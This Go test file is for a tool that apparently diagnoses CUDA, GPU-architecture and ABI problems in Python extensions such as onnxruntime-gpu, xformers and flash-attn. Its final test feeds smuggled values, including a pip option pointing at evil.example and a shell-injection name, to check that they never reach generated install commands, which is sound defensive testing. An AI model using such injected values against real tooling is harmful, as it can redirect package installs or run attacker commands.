package diagnose

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/fastpath-dev/fastpath/internal/facts"
	"github.com/fastpath-dev/fastpath/internal/finding"
)

// TestArchEvidenceCountsLayouts: the facts keep each distinct container layout once,
// so the evidence counts layouts, not containers. The module is onnxruntime-gpu
// 1.31.1's libonnxruntime_providers_cuda.so as its real wheel ships it (609
// containers in 4 layouts; `fastpath inspect` and cuobjdump 13.5 agree), on a 10.0
// GPU where none of them runs; it links no torch, so the fix is no torch rebuild.
func TestArchEvidenceCountsLayouts(t *testing.T) {
	f := healthy()
	f.GPU.Devices[0].Capability = "10.0"
	f.Extensions = append(f.Extensions, facts.Extension{
		Dist: "onnxruntime-gpu", Version: "1.31.1", Path: extSite + "/onnxruntime/capi/libonnxruntime_providers_cuda.so",
		SASS: []string{"sm_75", "sm_80", "sm_86", "sm_89", "sm_90a", "sm_120a"}, Containers: 609,
		TargetSets: [][]string{
			{"sm_75", "sm_80", "sm_86", "sm_89", "sm_90a", "sm_120a"},
			{"sm_80", "sm_86", "sm_89", "sm_90a", "sm_120a"},
			{"sm_90a"},
			{"sm_120a"},
		},
	})
	var got *finding.Finding
	for _, fd := range Run(f) {
		if fd.ID == finding.ExtensionArchUnsupported && fd.Severity == finding.Error {
			got = &fd
		}
	}
	if got == nil {
		t.Fatal("no extension-arch-unsupported error")
	}
	want := "(609 fatbin containers); of its 4 distinct container layouts, 0 run on this GPU, 2 have no code for it, 2 are code for other GPUs alone"
	if !strings.HasSuffix(got.Evidence[0], want) {
		t.Errorf("evidence %q, want it to end %q", got.Evidence[0], want)
	}
	if len(got.Fixes) != 1 || len(got.Fixes[0].Commands) != 0 || !strings.Contains(got.Fixes[0].Title, "not a torch extension") {
		t.Errorf("fixes %+v, want one by hand: it is not a torch extension", got.Fixes)
	}
}

// TestOnnxruntimeProvidersLoadOnDemand diagnoses the facts `doctor --live --json`
// recorded (session 8) from a real venv: onnxruntime-gpu 1.31.1 installed without
// its CUDA libraries (pip install --no-deps, plus numpy, flatbuffers, packaging,
// protobuf, sympy, coloredlogs), Python 3.11, no GPU. Its CUDA and TensorRT providers
// need libcudart.so.13, which is nowhere: an error, but `import onnxruntime` works
// (the live probe imported it), because onnxruntime loads the providers only when a
// session asks for them. The static finding must not say the import fails, and the
// live import must not be read as contradicting it.
func TestOnnxruntimeProvidersLoadOnDemand(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("testdata", "onnxruntime-gpu-1.31.1-live.facts.json"))
	if err != nil {
		t.Fatal(err)
	}
	var f facts.Facts
	if err := json.Unmarshal(b, &f); err != nil {
		t.Fatal(err)
	}
	if f.Live == nil || !slices.ContainsFunc(f.Live.Packages, func(p facts.LivePackage) bool { return p.Import == "onnxruntime" && p.OK }) {
		t.Fatal("the recorded probe did not import onnxruntime")
	}
	var cudaErr *finding.Finding
	for _, fd := range Run(&f) {
		switch fd.ID {
		case finding.StaticLiveDisagree:
			t.Errorf("static-live-disagree: %s", fd.Title)
		case finding.ExtensionCUDAMismatch:
			cudaErr = &fd
		}
	}
	if cudaErr == nil || cudaErr.Severity != finding.Error || cudaErr.Title != "onnxruntime-gpu 1.31.1 needs libcudart.so.13, which is not installed" {
		t.Fatalf("extension-cuda-mismatch: %+v", cudaErr)
	}
	if strings.Contains(cudaErr.Detail, "Importing it fails") || !strings.HasPrefix(cudaErr.Detail, "Importing it works") {
		t.Errorf("detail %q", cudaErr.Detail)
	}
}

// TestOtherCUDARuntimeOfNonTorchPackages: a package that is no torch extension runs
// its own CUDA runtime beside torch's by design, so "built for CUDA 12, torch for
// CUDA 13" is no finding for it, and a missing runtime is not fixed by rebuilding it
// against torch. The modules are as the real wheels ship them (readelf -d):
// ctransformers 0.2.27's lib/cuda/libctransformers.so and faiss-gpu-cu12 1.14.1.post1's
// faiss/_swigfaiss.so (each needs libcudart.so.12; neither links torch; faiss's is
// found where its nvidia-cuda-runtime-cu12 dependency puts it), beside a flash-attn
// 2.8.3 built for CUDA 12 (links torch: still a warning with the rebuild).
func TestOtherCUDARuntimeOfNonTorchPackages(t *testing.T) {
	const cu12 = extSite + "/nvidia/cuda_runtime/lib/libcudart.so.12"
	for _, tc := range []struct {
		name  string
		ext   facts.Extension
		sev   finding.Severity // "": no extension-cuda-mismatch finding
		fixes []string         // fix titles' first words
	}{
		{"ctransformers missing", facts.Extension{Dist: "ctransformers", Version: "0.2.27", Path: extSite + "/ctransformers/lib/cuda/libctransformers.so",
			Needed: []string{"libcudart.so.12", "libcublas.so.12"}, CUDARuntime: "libcudart.so.12"}, finding.Error, []string{"Install"}},
		{"faiss found", facts.Extension{Dist: "faiss-gpu-cu12", Version: "1.14.1.post1", Path: extSite + "/faiss/_swigfaiss.so",
			Needed: []string{"libcudart.so.12"}, CUDARuntime: "libcudart.so.12", CUDARuntimeFound: cu12}, "", nil},
		{"flash-attn found", facts.Extension{Dist: "flash-attn", Version: "2.8.3", Path: extSite + "/flash_attn_2_cuda.cpython-312-x86_64-linux-gnu.so",
			Needed: []string{"libc10.so", "libtorch.so", "libcudart.so.12"}, LinksTorch: true, CUDARuntime: "libcudart.so.12", CUDARuntimeFound: cu12}, finding.Warning, []string{"Rebuild"}},
		{"flash-attn missing", facts.Extension{Dist: "flash-attn", Version: "2.8.3", Path: extSite + "/flash_attn_2_cuda.cpython-312-x86_64-linux-gnu.so",
			Needed: []string{"libc10.so", "libtorch.so", "libcudart.so.12"}, LinksTorch: true, CUDARuntime: "libcudart.so.12"}, finding.Error, []string{"Rebuild", "Or"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := healthy()
			f.Extensions = append(f.Extensions, tc.ext)
			var got *finding.Finding
			for _, fd := range Run(f) {
				if fd.ID == finding.ExtensionCUDAMismatch {
					got = &fd
				}
			}
			if tc.sev == "" {
				if got != nil {
					t.Errorf("%s: %s", got.Severity, got.Title)
				}
				return
			}
			if got == nil || got.Severity != tc.sev {
				t.Fatalf("finding %+v, want severity %s", got, tc.sev)
			}
			var firsts []string
			for _, fx := range got.Fixes {
				first, _, _ := strings.Cut(fx.Title, " ")
				firsts = append(firsts, first)
			}
			if !slices.Equal(firsts, tc.fixes) {
				t.Errorf("fixes %q, want titles starting %q", firsts, tc.fixes)
			}
		})
	}
}

// TestXformersLoadFailureCaught: xformers 0.0.35's _C.so (its real wheel, PyPI)
// needs libcudart.so.12; beside torch 2.11.0+cu130 without the CUDA 12 runtime it
// cannot load. That is an error, but `import xformers` works: xformers/_cpp_lib.py
// catches the failed torch.ops.load_library and only warns. doctor said the import
// fails, and a live probe that imported xformers was then read as contradicting it.
func TestXformersLoadFailureCaught(t *testing.T) {
	f := healthy()
	f.Extensions = append(f.Extensions, facts.Extension{
		Dist: "xformers", Version: "0.0.35", Path: extSite + "/xformers/_C.so",
		Needed: []string{"libc10.so", "libtorch.so", "libcudart.so.12"}, LinksTorch: true,
		SASS: []string{"sm_80", "sm_90"}, Containers: 1, CUDARuntime: "libcudart.so.12",
	})
	got := xformersImportsLive(t, f, finding.ExtensionCUDAMismatch)
	if got == nil || got.Severity != finding.Error {
		t.Fatalf("extension-cuda-mismatch: %+v", got)
	}
	if !strings.HasPrefix(got.Detail, "Importing it works") || strings.Contains(got.Detail, "fails with \"ImportError") ||
		!slices.ContainsFunc(got.Evidence, func(ev string) bool {
			return strings.HasPrefix(ev, "rule: xformers==0.0.35") && strings.Contains(ev, "WARNING[XFORMERS]")
		}) {
		t.Errorf("detail %q\nevidence %q", got.Detail, got.Evidence)
	}
}

// TestXformersABIMismatchImportWarns: the same module built for another torch
// (undefined symbols) is no import failure either: xformers warns "xFormers was
// built for" and imports.
func TestXformersABIMismatchImportWarns(t *testing.T) {
	f := healthy()
	f.Extensions = append(f.Extensions, facts.Extension{
		Dist: "xformers", Version: "0.0.35", Path: extSite + "/xformers/_C.so",
		Needed: []string{"libc10.so", "libtorch.so"}, LinksTorch: true,
		MissingSymbols: []string{"at::_ops::empty_memory_format::call(...)"}, MissingCount: 1,
	})
	got := xformersImportsLive(t, f, finding.ExtensionABIMismatch)
	if got == nil || strings.Contains(got.Detail, "`import` fails") || !strings.Contains(got.Detail, "the import catches that") ||
		!slices.ContainsFunc(got.Evidence, func(ev string) bool { return strings.HasPrefix(ev, "rule: xformers==0.0.35") }) {
		t.Fatalf("extension-abi-mismatch: %+v", got)
	}
}

// xformersImportsLive runs doctor on f with a live probe in which xformers
// imported, and returns the finding id (nil if none); a static-live-disagree
// is an error: the import catching the failed load is what static said.
func xformersImportsLive(t *testing.T, f *facts.Facts, id finding.ID) *finding.Finding {
	t.Helper()
	f.Live = &facts.LiveFacts{Probe: 1, Torch: facts.LiveTorch{OK: true, Version: "2.11.0+cu130", CUDA: "13.0", CUDAAvailable: true},
		Packages: []facts.LivePackage{{Name: "xformers", Import: "xformers", OK: true, Version: "0.0.35"}}}
	var got *finding.Finding
	for _, fd := range Run(f) {
		switch fd.ID {
		case finding.StaticLiveDisagree:
			t.Errorf("static-live-disagree: %s", fd.Title)
		case id:
			got = &fd
		}
	}
	return got
}

// F14: an extension's distribution name comes from a METADATA in the
// diagnosed root or image. A name that is a pip option or shell code is
// never put in a command (before: "pip install --no-binary
// --index-url=http://evil.example/simple ..."); a real name still is.
func TestExtensionDistNameFromMetadataNeverAnOption(t *testing.T) {
	for _, c := range []struct {
		name     string
		commands bool
	}{
		{"--index-url=http://evil.example/simple", false},
		{"x;touch${IFS}pwned", false},
		{"-e.", false},
		{"evil-kernels", true},
	} {
		f := healthy()
		f.Extensions = append(f.Extensions, facts.Extension{
			Dist: c.name, Version: "1.0 --pre", Path: extSite + "/evil/_C.so", LinksTorch: true,
			SASS: []string{"sm_80"}, Containers: 1, TargetSets: [][]string{{"sm_80"}},
		})
		var cmds []string
		found := false
		for _, fd := range Run(f) {
			if fd.ID != finding.ExtensionArchUnsupported {
				continue
			}
			found = true
			for _, fx := range fd.Fixes {
				cmds = append(cmds, fx.Commands...)
			}
		}
		if !found {
			t.Fatalf("%s: no extension-arch-unsupported finding", c.name)
		}
		all := strings.Join(cmds, "\n")
		if !c.commands && (strings.Contains(all, c.name) || strings.Contains(all, "pwned") || strings.Contains(all, "index-url")) {
			t.Errorf("%q reached a command:\n%s", c.name, all)
		}
		if c.commands && !strings.Contains(all, "--no-binary "+c.name+" ") {
			t.Errorf("%q: no rebuild command:\n%s", c.name, all)
		}
		if strings.Contains(all, "--pre") {
			t.Errorf("%q: a version that is not PEP 440 was pinned:\n%s", c.name, all)
		}
	}
}
